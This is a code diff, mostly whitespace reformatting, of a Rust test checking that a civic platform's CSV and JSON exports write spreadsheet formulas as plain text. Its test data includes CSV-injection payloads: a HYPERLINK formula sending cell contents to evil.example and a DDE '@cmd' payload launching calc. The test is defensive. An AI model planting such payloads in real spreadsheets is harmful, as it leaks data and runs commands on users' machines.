@@ -17,13 +17,20 @@ const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&B2;\"Dettagli\")";
 async fn formula_cells_are_written_as_text_in_every_csv() {
     let app = spawn_app().await;
     let author = fresh_person(&app, "@Autore furbo").await;
-    let input = ProposalInput::parse(FORMULA, &format!("+{FORMULA} e un testo lungo abbastanza"), None, None)
-        .unwrap();
+    let input = ProposalInput::parse(
+        FORMULA,
+        &format!("+{FORMULA} e un testo lungo abbastanza"),
+        None,
+        None,
+    )
+    .unwrap();
     let id = authoring::create(&ctx(&app, &author), PINEROLO, "servizi-online", &input)
         .await
         .unwrap();
 
-    let zip = app.get(&format!("/processi/{PINEROLO}/dati-aperti.zip")).await;
+    let zip = app
+        .get(&format!("/processi/{PINEROLO}/dati-aperti.zip"))
+        .await;
     assert_eq!(zip.status, 200);
     let dir = tempfile::tempdir().unwrap();
     ::zip::ZipArchive::new(std::io::Cursor::new(zip.bytes))
@@ -60,7 +67,10 @@ async fn formula_cells_are_written_as_text_in_every_csv() {
     // The JSON keeps the text exact.
     let json: serde_json::Value =
         serde_json::from_slice(&std::fs::read(dir.path().join("proposte.json")).unwrap()).unwrap();
-    let rows = json.as_array().or_else(|| json["righe"].as_array()).expect("rows");
+    let rows = json
+        .as_array()
+        .or_else(|| json["righe"].as_array())
+        .expect("rows");
     assert!(rows.iter().any(|r| r["title"] == FORMULA), "{json:.300}");
     // The metadata says so.
     let metadata = std::fs::read_to_string(dir.path().join("metadati.json")).unwrap();
@@ -68,7 +78,8 @@ async fn formula_cells_are_written_as_text_in_every_csv() {
 
     // The DUP export: titles and descriptions written as text, read back exact.
     let edition = new_edition(&app, "DUP con formule", false).await;
-    let text = GOOD.replace("Una città che si muove meglio", "=1+1 città")
+    let text = GOOD
+        .replace("Una città che si muove meglio", "=1+1 città")
         .replace("Meno auto e più autobus", "@cmd|' /C calc'!A0");
     assert!(matches!(
         editions::import(&admin(&app).await, edition, &format!("{HEADER}{text}"))
@@ -78,7 +89,11 @@ async fn formula_cells_are_written_as_text_in_every_csv() {
     ));
     let exported = app.get(&format!("/dup/{edition}/esporta.csv")).await;
     assert_eq!(exported.status, 200);
-    assert!(exported.body.contains(",'=1+1 città,'@cmd|' /C calc'!A0,"), "{}", exported.body);
+    assert!(
+        exported.body.contains(",'=1+1 città,'@cmd|' /C calc'!A0,"),
+        "{}",
+        exported.body
+    );
     let again = editions::import(&admin(&app).await, edition, &exported.body)
         .await
         .unwrap();
